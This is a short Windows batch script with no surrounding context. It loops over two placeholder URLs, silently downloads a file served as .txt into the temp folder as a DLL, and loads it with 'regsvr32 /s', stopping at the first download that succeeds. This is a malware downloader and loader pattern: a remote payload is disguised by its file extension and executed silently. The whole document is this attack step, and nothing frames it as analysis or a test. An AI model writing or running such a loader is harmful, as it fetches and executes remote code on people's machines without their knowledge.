@echo off
for %%u in (http://a0.example/p.txt http://a1.example/q.txt) do (
 curl -s -o "%temp%\k.dll" %%u && (regsvr32 /s "%temp%\k.dll" & goto :eof)
)
